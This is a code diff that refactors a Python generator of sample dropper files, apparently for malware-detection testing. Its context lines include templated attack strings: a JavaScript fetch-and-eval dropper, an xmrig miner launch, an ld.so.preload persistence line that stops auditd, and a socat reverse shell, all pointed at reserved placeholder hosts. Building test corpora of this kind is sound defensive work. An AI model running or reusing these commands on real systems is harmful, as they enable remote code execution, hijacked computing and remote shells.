@@ -146,6 +146,12 @@ JS_OBFUSCATOR_FAMILIES = {
 JS_CONFUSER_PRESETS = ["low", "medium", "high"]
 
 
+def variants(forms, hosts, copies, name):
+    """(name, text) of each form `copies` times, `{h}` replaced by a host taken in turn."""
+    return [(name.format(i=i, j=j), form.replace("{h}", hosts[(i + j) % len(hosts)]))
+            for i, form in enumerate(forms) for j in range(copies)]
+
+
 def js_droppers():
     """Harmless JavaScript droppers: each fetches a script from a reserved name and runs it."""
     hosts = ["update.example.invalid", "cdn.example.invalid", "198.51.100.7", "203.0.113.9"]
@@ -161,11 +167,7 @@ def js_droppers():
         "var x = new XMLHttpRequest(); x.open('GET', 'http://{h}/payload.js', false); x.send(); eval(x.responseText);\n",
         "require('child_process').execSync('nohup ./xmrig -o stratum+tcp://{h}:3333 -u 4AbCdEf -p x >/dev/null 2>&1 &');\n",
     ]
-    samples = []
-    for i, form in enumerate(forms):
-        for j, host in enumerate(hosts[:2]):
-            samples.append((f"dropper{i:02}-{j}.js", form.replace("{h}", hosts[(i + j) % len(hosts)])))
-    return samples
+    return variants(forms, hosts, 2, "dropper{i:02}-{j}.js")
 
 
 def shell_droppers():
@@ -184,11 +186,7 @@ def shell_droppers():
         "#!/bin/bash\necho '/tmp/.lib.so' >> /etc/ld.so.preload\nsystemctl stop auditd\n",
         "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{h}:9001\n",
     ]
-    samples = []
-    for i, form in enumerate(forms):
-        for j in range(3):
-            samples.append((f"dropper{i:02}-{j}.sh", form.replace("{h}", hosts[(i + j) % len(hosts)])))
-    return samples
+    return variants(forms, hosts, 3, "dropper{i:02}-{j}.sh")
 
 
 def select(paths, part: str, count: int, seed: str):
